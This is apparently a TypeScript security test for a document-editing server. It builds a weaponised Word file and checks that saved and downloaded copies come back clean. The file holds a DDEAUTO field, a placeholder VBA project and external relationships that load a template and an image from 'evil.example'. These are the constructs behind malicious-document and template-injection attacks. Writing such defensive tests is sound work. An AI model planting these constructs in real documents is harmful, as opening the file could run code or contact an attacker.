import { inflateEntry, readZip, textOfDocx } from '@redraft/documents';
import { zipCodec } from '../../../apps/server/src/domain/revisions/index.ts';
import { getFile, putFile } from '../../writing.ts';
import { type Attack, outcomeRow } from '../attack.ts';
import { createDocxWithParts } from '../documents.ts';

const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const outside = (kind: string, id: string) =>
  `<Relationship Id="${id}" Type="${type}/${kind}" Target="https://evil.example/${kind}" TargetMode="&#69;xternal"/>`;
const field =
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO evil</w:instrText></w:r>' +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Every word.</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';

/** Active content that a program would run or load when it opens the file. */
const armed = createDocxWithParts({
  'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${field}</w:p></w:body></w:document>`,
  'word/VBAPROJECT.bin': 'evil',
  'word/_rels/settings.xml.rels': `<Relationships>${outside('attachedTemplate', 'rId1')}</Relationships>`,
  'word/_rels/Document.XML.rels': `<Relationships>${outside('image', 'rId1')}</Relationships>`,
});

function readAll(bytes: Uint8Array): string {
  return readZip(bytes)
    .map((entry) => `${entry.name} ${Buffer.from(inflateEntry(entry, zipCodec)).toString()}`)
    .join('\n');
}

const attack: Attack = {
  name: "Nothing in a student's file runs or loads where it is opened",
  run: async (world) => {
    const text = await world.openText('student3');
    const saved = await putFile(text, armed);
    const secondResponse = await putFile(text, armed);
    const reader = await world.account('instructor');
    const download = await reader.request(`/api/auxfiles/submission/file?submissionId=${text.submissionId}`);
    const rows = [outcomeRow('a save with macros, answered', saved.status, 200)];
    for (const [who, answer] of [
      ['the editor', await getFile(text)],
      ['the instructor', download],
    ] as const) {
      const bytes = new Uint8Array(await answer.arrayBuffer());
      rows.push(
        outcomeRow(
          `what ${who} gets of it`,
          /evil|vbaproject/i.test(readAll(bytes)) ? 'active' : 'clean',
          'clean',
        ),
        outcomeRow('  its words', textOfDocx(bytes), 'Every word.'),
      );
    }
    const version = (answer: Response) => answer.headers.get('x-wopi-itemversion') ?? 'none';
    rows.push(outcomeRow('the same save again, as version', version(secondResponse), version(saved)));
    return rows;
  },
};

export default attack;
